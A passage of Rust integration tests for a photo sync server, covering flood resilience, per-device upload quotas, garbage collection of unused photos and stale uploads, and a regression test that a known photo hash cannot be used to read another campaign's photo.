    let attempts: usize = futures_sum(flood).await;
    let after = rss_mib(child.id());
    child.kill().unwrap();
    child.wait().unwrap();
    latencies.sort();
    let median = latencies[latencies.len() / 2];
    assert!(attempts > 100, "the flood ran: {attempts} attempts");
    assert!(median < Duration::from_millis(500), "a push's median under the flood: {median:?}");
    assert!(after < before + 150, "resident memory {before} MiB before, {after} MiB after {attempts} attempts");
}

async fn futures_sum(tasks: Vec<tokio::task::JoinHandle<usize>>) -> usize {
    let mut n = 0;
    for t in tasks {
        n += t.await.unwrap();
    }
    n
}

/// Sends the first `len` bytes of `photo` as the first chunk of a resumable
/// upload; the answer's status.
async fn first_chunk(s: &Server, token: &str, photo: &[u8], len: usize) -> u16 {
    let sha = qadam_core::photo::sha256_hex(photo);
    let r = s
        .http
        .patch(s.url(&format!("/api/v1/photos/{sha}")))
        .bearer_auth(token)
        .header("upload-offset", "0")
        .header("upload-length", photo.len().to_string())
        .body(photo[..len].to_vec());
    r.send().await.unwrap().status().as_u16()
}

/// A photo record for `sha` on object `object`.
fn photo_record(clock: &mut qadam_core::HlcClock, device: &str, object: Uuid, sha: &str) -> (Uuid, Vec<Change>) {
    let photo = Uuid::now_v7();
    let changes = vec![
        change(clock, device, EntityKind::Photo, photo, "object_id", json!(object)),
        change(clock, device, EntityKind::Photo, photo, "sha256", json!(sha)),
    ];
    (photo, changes)
}

/// #13.11: photos no record used were kept forever, unfinished uploads
/// never expired, and a device could fill the disk. Now blobs no live
/// record names and stale unfinished uploads are collected after a grace
/// period, and a device past its quota is answered 507, saying so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unused_photos_and_stale_uploads_are_collected_and_a_device_has_a_quota() {
    use qadam_sync_server::space::{collect, Collected, Retention};
    use std::time::{Duration, SystemTime};
    let quota = 60_000;
    let s = Server::start_with(move |cfg| cfg.retention = Retention { quota_bytes: quota, ..Default::default() }).await;
    let campaign = Uuid::now_v7();
    let (batch, [object, ..]) = campaign_records(campaign, "Disk");
    assert_eq!(s.push(&batch).await.0, 200);
    add_account(&s, "snapper", "auditor", Some((campaign, "auditor")));
    let (_, phone) = s.enroll("snapper").await;
    let photo = |seed: u8| demo::jpeg_with_exif(200 + u32::from(seed), 150, 1, None, "2025:06:01 10:00:00");
    let put = |bytes: Vec<u8>| {
        let sha = qadam_core::photo::sha256_hex(&bytes);
        let r = s.http.put(s.url(&format!("/api/v1/photos/{sha}"))).bearer_auth(&phone).body(bytes);
        async move {
            let r = r.send().await.unwrap();
            (r.status().as_u16(), r.json::<Value>().await.unwrap_or(Value::Null), sha)
        }
    };
    // Three photos: one a record keeps, one whose record is deleted, one never named.
    let (kept, deleted, unnamed) = (photo(1), photo(2), photo(3));
    assert!(kept.len() + deleted.len() + unnamed.len() < quota as usize, "all three fit the quota");
    let (st, _, kept_sha) = put(kept).await;
    assert_eq!(st, 201);
    let (st, _, deleted_sha) = put(deleted).await;
    assert_eq!(st, 201);
    let (st, _, unnamed_sha) = put(unnamed).await;
    assert_eq!(st, 201);
    // Past the quota: 507, with the numbers.
    let big = demo::jpeg_with_exif(1600, 1200, 1, None, "2025:06:01 10:00:00");
    assert!(big.len() as u64 > quota, "{}", big.len());
    let (st, v, _) = put(big.clone()).await;
    assert_eq!((st, v["error"]["code"].as_str()), (507, Some("quota_exceeded")), "{v}");
    assert!(v["error"]["message"].as_str().unwrap().contains("per device"), "{v}");
    let st = first_chunk(&s, &phone, &big, 1000).await;
    assert_eq!(st, 507, "a resumable upload past the quota is refused at its first chunk");
    let mut clock = qadam_core::HlcClock::resume(batch.iter().map(|c| c.hlc).max().unwrap());
    let (_, kept_rec) = photo_record(&mut clock, "phone", object, &kept_sha);
    let (gone, mut deleted_rec) = photo_record(&mut clock, "phone", object, &deleted_sha);
    deleted_rec.push(change(&mut clock, "phone", EntityKind::Photo, gone, "deleted", json!(true)));
    assert_eq!(s.push(&[kept_rec, deleted_rec].concat()).await.0, 200);
    // An upload never finished (by the operator: no quota).
    let stale = demo::jpeg_with_exif(300, 200, 1, None, "2025:06:01 10:00:00");
    let stale_sha = qadam_core::photo::sha256_hex(&stale);
    assert_eq!(first_chunk(&s, TOKEN, &stale, 500).await, 204);
    let state = s.state.clone();
    let gc = move |at: SystemTime| {
        let state = state.clone();
        async move { tokio::task::spawn_blocking(move || collect(&state, at).unwrap()).await.unwrap() }
    };
    // Within the grace period nothing goes.
    assert_eq!(gc(SystemTime::now()).await, Collected::default());
    // After it: the unused two and the stale upload.
    let later = SystemTime::now() + Duration::from_secs(8 * 24 * 3600);
    let mut want = vec![deleted_sha.clone(), unnamed_sha.clone()];
    want.sort();
    assert_eq!(gc(later).await, Collected { photos: want, partial_uploads: 1 });
    let server = &s;
    let status = |sha: String| async move {
        server.http.head(server.url(&format!("/api/v1/photos/{sha}"))).bearer_auth(TOKEN).send().await.unwrap()
    };
    assert_eq!(status(kept_sha.clone()).await.status().as_u16(), 200, "a photo a record names stays");
    for sha in [deleted_sha, unnamed_sha] {
        assert_eq!(status(sha).await.status().as_u16(), 404, "collected");
    }
    let r = status(stale_sha).await;
    assert_eq!(
        (r.status().as_u16(), r.headers()["upload-offset"].to_str().unwrap()),
        (404, "0"),
        "the stale upload starts over"
    );
    // The room freed counts: the device may upload again.
    let (st, _, _) = put(photo(4)).await;
    assert_eq!(st, 201);
}

/// #13.12 (photos): anyone who learned a photo's hash could name it in a
/// record of their own campaign and then read it. A photo is served to
/// readers of the campaign whose record named it first, and its uploader.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn naming_a_known_photo_hash_in_another_campaign_does_not_give_its_bytes_away() {
    let s = Server::start().await;
    let (a, b) = (Uuid::now_v7(), Uuid::now_v7());
    let (batch_a, [object_a, ..]) = campaign_records(a, "A");
    let (batch_b, [object_b, ..]) = campaign_records(b, "B");
    assert_eq!(s.push(&batch_a).await.0, 200);
    assert_eq!(s.push(&batch_b).await.0, 200);
    add_account(&s, "owner", "auditor", Some((a, "auditor")));
    add_account(&s, "thief", "auditor", Some((b, "auditor")));
    let (_, owner) = s.enroll("owner").await;
    let (_, thief) = s.enroll("thief").await;
    let jpeg = demo::jpeg_with_exif(320, 240, 1, None, "2025:06:01 10:00:00");
    let sha = qadam_core::photo::sha256_hex(&jpeg);
    let r = s.http.put(s.url(&format!("/api/v1/photos/{sha}"))).bearer_auth(&owner).body(jpeg).send().await.unwrap();
    assert_eq!(r.status().as_u16(), 201);
    let mut clock = qadam_core::HlcClock::resume(batch_b.iter().map(|c| c.hlc).max().unwrap());
    let body = |changes: Vec<Change>| serde_json::to_vec(&PushRequest { device_id: "x".into(), changes }).unwrap();
    let (_, mine) = photo_record(&mut clock, "owner-phone", object_a, &sha);
    assert_eq!(s.call("POST", "/api/v1/sync/push", Some(&owner), Some(body(mine))).await.0, 200);
    let (_, stolen) = photo_record(&mut clock, "thief-phone", object_b, &sha);
    assert_eq!(s.call("POST", "/api/v1/sync/push", Some(&thief), Some(body(stolen))).await.0, 200);
    for path in [format!("/api/v1/photos/{sha}"), format!("/api/v1/photos/{sha}/thumb")] {
        assert_eq!(s.call("GET", &path, Some(&thief), None).await.0, 404, "{path}");
        let r = s.http.get(s.url(&path)).bearer_auth(&owner).send().await.unwrap();
        assert_eq!(r.status().as_u16(), 200, "{path}");
    }
}
